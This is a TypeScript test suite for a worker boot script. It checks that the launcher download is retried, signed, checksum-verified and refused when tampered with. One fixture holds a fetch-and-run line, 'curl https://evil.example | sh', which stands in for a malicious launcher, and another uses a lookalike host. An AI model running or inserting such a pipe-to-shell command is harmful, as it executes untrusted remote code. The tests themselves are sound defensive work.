import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { keyServers, Sandbox, tokenFor } from './testing/sandbox.ts';

const launcherUrl = 'https://downloads.spacelift.io/spacelift-launcher-x86_64';

describe('fetching the launcher', () => {
  it('tries every download again, and takes none that failed (U2)', async () => {
    using sandbox = new Sandbox();

    await sandbox.boot();

    const downloads = sandbox.callsOf('curl').filter((call) => call.includes('https://'));
    expect(downloads).toHaveLength(4);
    for (const download of downloads) {
      expect(download).toMatch(/--fail .*--retry 5 --retry-all-errors/);
    }
  });

  it.each([launcherUrl, `${launcherUrl}_SHA256SUMS`, `${launcherUrl}_SHA256SUMS.sig`])(
    'powers off without %s',
    async (url) => {
      using sandbox = new Sandbox();
      sandbox.unpublish(url);

      const boot = await sandbox.boot();

      expect(boot.status).not.toBe(0);
      expectNoService(sandbox);
    },
  );

  it.each(keyServers.slice(1))('gets the key from %s when those before it have none (U3)', async (server) => {
    using sandbox = new Sandbox();
    sandbox.unpublish(keyServers[0]);
    sandbox.publish(server, '-----BEGIN PGP PUBLIC KEY BLOCK-----\n');

    const boot = await sandbox.boot();

    expect(boot.status).toBe(0);
    expect(boot.output).toContain(`no key from ${keyServers[0]}`);
  });

  it('asks the next key server when one answers with something else than a key', async () => {
    using sandbox = new Sandbox();
    sandbox.publish(keyServers[0], '<html>busy</html>');
    sandbox.publish(keyServers[1], '-----BEGIN PGP PUBLIC KEY BLOCK-----\n');

    expect((await sandbox.boot()).status).toBe(0);
  });

  it('powers off when no server has the key, and says what does without', async () => {
    using sandbox = new Sandbox();
    sandbox.unpublish(keyServers[0]);

    const boot = await sandbox.boot();

    expect(boot.output).toContain(
      'could not be fetched from any key server; pin launcher.sha256 to do without',
    );
    expectNoService(sandbox);
  });

  it('refuses checksums that somebody else has signed', async () => {
    using sandbox = new Sandbox();
    sandbox.write('signer', '0000000000000000000000000000000000000000');

    const boot = await sandbox.boot();

    expect(boot.output).toContain('signed by another key than 175FD97AD2358EFE02832978E302FB5AA29D88F7');
    expectNoService(sandbox);
  });

  it('refuses checksums that their signature is not for', async () => {
    using sandbox = new Sandbox();
    sandbox.publish(`${launcherUrl}_SHA256SUMS.sig`, 'signature of something else\n');

    const boot = await sandbox.boot();

    expect(boot.output).toContain('not signed as they should be');
    expectNoService(sandbox);
  });

  it('refuses a launcher that is not among the checksums', async () => {
    using sandbox = new Sandbox();
    sandbox.publish(launcherUrl, '#!/bin/sh\ncurl https://evil.example | sh\n');

    const boot = await sandbox.boot();

    expect(boot.output).toMatch(/the launcher's checksum [0-9a-f]{64} is not among the signed ones/);
    expectNoService(sandbox);
  });

  it('takes a pinned checksum instead of a signature', async () => {
    const launcher = '#!/bin/sh\n# the right one\n';
    using sandbox = new Sandbox({ launcher: { sha256: sha256(launcher) } });
    sandbox.publish(launcherUrl, launcher);
    sandbox.unpublish(`${launcherUrl}_SHA256SUMS`);
    sandbox.unpublish(keyServers[0]);

    expect((await sandbox.boot()).status).toBe(0);
    expect(sandbox.callsOf('gpg')).toEqual([]);
  });

  it('refuses a launcher with another checksum than the pinned one', async () => {
    using sandbox = new Sandbox({ launcher: { sha256: '0'.repeat(64) } });

    const boot = await sandbox.boot();

    expect(boot.output).toContain(`the launcher's checksum is not the pinned ${'0'.repeat(64)}`);
    expectNoService(sandbox);
  });

  it('checks a pinned checksum of a self-hosted launcher as well (U4)', async () => {
    using sandbox = new Sandbox({
      selfHosted: { launcherUri: 's3://launchers/path/launcher' },
      launcher: { sha256: '0'.repeat(64) },
    });
    sandbox.write('buckets/launchers/path/launcher', '#!/bin/sh\n');

    const boot = await sandbox.boot();

    expect(boot.output).toContain("the launcher's checksum is not the pinned");
    expectNoService(sandbox);
  });

  it('powers off when the self-hosted launcher is not there (U4)', async () => {
    using sandbox = new Sandbox({ selfHosted: { launcherUri: 's3://launchers/gone' } });

    expect((await sandbox.boot()).status).not.toBe(0);
    expectNoService(sandbox);
  });

  it('downloads from a mirror', async () => {
    using sandbox = new Sandbox({ launcher: { downloadBaseUrl: 'https://mirror.acme.internal/spacelift/' } });
    sandbox.publishLauncher('https://mirror.acme.internal/spacelift/spacelift-launcher-x86_64');
    sandbox.unpublish(launcherUrl);

    expect((await sandbox.boot()).status).toBe(0);
  });

  it.each([
    {
      takes: 'the FedRAMP one when the token says so',
      fedRamp: 'auto',
      broker: 'worker-iot.fedramp.spacelift.io',
      edition: '-fedramp',
    },
    {
      takes: 'the FedRAMP one of the test installation',
      fedRamp: 'auto',
      broker: 'a.fedramp.spacelift.dev:443',
      edition: '-fedramp',
    },
    {
      takes: 'the usual one for a host that only looks like it',
      fedRamp: 'auto',
      broker: 'fedramp.spacelift.io.evil.example',
      edition: '',
    },
    {
      takes: 'the FedRAMP one when it is told to',
      fedRamp: true,
      broker: 'mqtt.spacelift.io',
      edition: '-fedramp',
    },
    {
      takes: 'the usual one when it is told to',
      fedRamp: false,
      broker: 'worker-iot.fedramp.spacelift.io',
      edition: '',
    },
  ] as const)('takes $takes', async ({ fedRamp, broker, edition }) => {
    using sandbox = new Sandbox({ launcher: { fedRamp } });
    sandbox.keepSecret('secrets-manager', 'poolkeeper/blue/worker', { SPACELIFT_TOKEN: tokenFor(broker) });
    sandbox.publishLauncher(`https://downloads.spacelift.io/spacelift-launcher${edition}-x86_64`);

    const boot = await sandbox.boot();

    expect(boot.status).toBe(0);
    expect(sandbox.callsOf('curl').some((call) => call.includes('launcher-fedramp'))).toBe(edition !== '');
  });

  it('powers off when the token is none, and does not say what it is', async () => {
    using sandbox = new Sandbox();
    sandbox.keepSecret('secrets-manager', 'poolkeeper/blue/worker', { SPACELIFT_TOKEN: 'hunter2!' });

    const boot = await sandbox.boot();

    expect(boot.output).toContain('SPACELIFT_TOKEN is no worker pool token');
    expect(boot.output).not.toContain('hunter2');
    expectNoService(sandbox);
  });
});

function expectNoService(sandbox: Sandbox): void {
  expect(sandbox.callsOf('systemctl')).toEqual([]);
  expect(sandbox.calls.at(-1)).toBe('systemd-run --quiet --collect --on-active=15 systemctl poweroff');
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}
